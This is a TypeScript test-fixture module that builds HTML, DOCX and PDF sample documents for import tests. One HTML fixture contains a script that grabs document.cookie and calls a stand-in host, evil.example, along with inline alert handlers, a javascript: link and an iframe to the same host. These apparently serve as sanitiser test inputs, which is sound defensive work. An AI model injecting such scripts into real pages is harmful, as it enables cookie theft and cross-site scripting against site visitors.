import { Document, Packer, Paragraph, HeadingLevel } from 'docx';
import { PDFDocument, PDFHexString, PDFName, PDFNumber, StandardFonts } from 'pdf-lib';

/** Fixture documents for import tests, generated so their content is known exactly. */

export const ARTICLE_PARAGRAPHS = [
  'The Ministry of Trade announced on Tuesday a new licensing regime for exports of advanced sensor components to partner economies.',
  'Under the regime, exporters will apply for one of three licence tiers depending on the end use of the components and the destination.',
  'Officials said the first tier would cover consumer products and would be approved within ten working days of a complete application.',
  'The second and third tiers, covering dual-use and military end uses, will require a review by an interagency panel chaired by the ministry.',
  'Industry groups welcomed the clarity but warned that the review panel would need more staff to keep decisions within the promised time.',
];

export const DOCX_PARAGRAPHS = [
  'The data protection authority published guidance on transfers of personal data to cloud providers outside the country.',
  'Controllers must map where their providers store and process data, including backups and support access from abroad.',
  'The guidance asks for a transfer impact assessment before a contract is signed and a review of it every two years.',
  'Small organisations may use a shortened template, which the authority will publish for consultation next month.',
];

export const PDF_PARAGRAPHS = [
  'The second call of the semiconductor subsidy programme opens for applications from fabrication and packaging firms.',
  'Grants cover up to forty percent of eligible capital costs for projects that add advanced packaging capacity.',
  'Applicants must show a skills plan agreed with a regional university and a supply of certified clean water.',
  'The call closes after ninety days and decisions are expected before the end of the financial year.',
];

export function htmlArticle(options: { title?: string; url?: string } = {}): string {
  const title = options.title ?? 'Ministry of Trade sets tiered licences for sensor exports';
  return `<!doctype html>
<html lang="en"><head>
<meta charset="utf-8">
<title>${title} | Policy Wire</title>
<meta property="og:title" content="${title}">
<meta property="og:site_name" content="Policy Wire">
<meta name="author" content="Dana Example">
<meta property="article:published_time" content="2025-09-14T08:00:00Z">
${options.url ? `<link rel="canonical" href="${options.url}">` : ''}
<script>window.stolen = document.cookie; fetch('https://evil.example/x');</script>
<style>body { background: red }</style>
</head>
<body onload="alert('onload')">
<nav><a href="/">Home</a> <a href="/news">News</a></nav>
<article>
<h1>${title}</h1>
${ARTICLE_PARAGRAPHS.map((p, i) => `<p onclick="alert(${i})">${p}<script>alert('inline ${i}')</script></p>`).join('\n')}
<img src="x" onerror="alert('img')">
<a href="javascript:alert('link')">Read more</a>
</article>
<footer>Copyright Policy Wire</footer>
</body></html>`;
}

/** A page that is nothing but scripts and handlers: no text for a development. */
export function htmlOnlyScripts(): string {
  return `<!doctype html><html><head><script>alert(1)</script></head><body onload="alert(2)">
<script>document.write('<p>written by script</p>')</script><div onclick="alert(3)"></div><iframe src="https://evil.example"></iframe>
</body></html>`;
}

export async function docxArticle(title = 'Data protection authority issues guidance on cloud transfers'): Promise<Uint8Array> {
  const doc = new Document({
    creator: 'Test',
    title,
    sections: [
      {
        children: [
          new Paragraph({ text: title, heading: HeadingLevel.HEADING_1 }),
          ...DOCX_PARAGRAPHS.map((text) => new Paragraph({ text })),
        ],
      },
    ],
  });
  return new Uint8Array(await Packer.toBuffer(doc));
}

/** Splits a paragraph into lines of at most `width` characters at spaces. */
export function wrap(text: string, width = 85): string[] {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    if (line && line.length + word.length + 1 > width) {
      lines.push(line);
      line = word;
    } else line = line ? `${line} ${word}` : word;
  }
  if (line) lines.push(line);
  return lines;
}

/** One page; lines of a paragraph 13 pt apart, paragraphs 28 pt apart, as a word processor sets them. */
async function textPdf(paragraphs: string[], title?: string): Promise<PDFDocument> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([595, 842]);
  let y = 790;
  for (const paragraph of paragraphs) {
    for (const line of wrap(paragraph)) {
      page.drawText(line, { x: 50, y, size: 10, font });
      y -= 13;
    }
    y -= 15;
  }
  if (title) pdf.setTitle(title);
  pdf.setCreationDate(new Date('2025-07-01T12:00:00Z'));
  return pdf;
}

/** `pages` pages, each opening with "Page N." and then `linesPerPage` numbered lines of text. */
export async function pdfPages(pages: number, linesPerPage = 40): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (let n = 1; n <= pages; n++) {
    const page = pdf.addPage([595, 842]);
    page.drawText(`Page ${n}.`, { x: 50, y: 790, size: 10, font });
    for (let line = 1; line <= linesPerPage; line++) {
      page.drawText(`Line ${line} of page ${n} says what the regulator decided and when it applies.`, { x: 50, y: 790 - 13 * line, size: 10, font });
    }
  }
  return pdf.save();
}

export async function pdfArticle(title = 'Semiconductor subsidy programme opens second call'): Promise<Uint8Array> {
  return (await textPdf([title, ...PDF_PARAGRAPHS], title)).save();
}

/** A page with a drawn rectangle and no text: what a scan without OCR looks like to a reader. */
export async function pdfScanned(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawRectangle({ x: 50, y: 50, width: 495, height: 742, borderWidth: 2 });
  return pdf.save();
}

/**
 * A PDF whose trailer declares standard encryption with a user password (the /U entry
 * does not match the empty password), so readers must ask for a password.
 */
export async function pdfEncrypted(): Promise<Uint8Array> {
  const pdf = await textPdf(['Secret text']);
  const context = pdf.context;
  const filler = (byte: string) => PDFHexString.of(byte.repeat(32));
  const encrypt = context.obj({
    Filter: PDFName.of('Standard'),
    V: PDFNumber.of(1),
    R: PDFNumber.of(2),
    O: filler('4a'),
    U: filler('7b'),
    P: PDFNumber.of(-4),
  });
  context.trailerInfo.Encrypt = context.register(encrypt);
  const fileId = PDFHexString.of('0123456789abcdef0123456789abcdef');
  context.trailerInfo.ID = context.obj([fileId, fileId]);
  return pdf.save({ useObjectStreams: false });
}
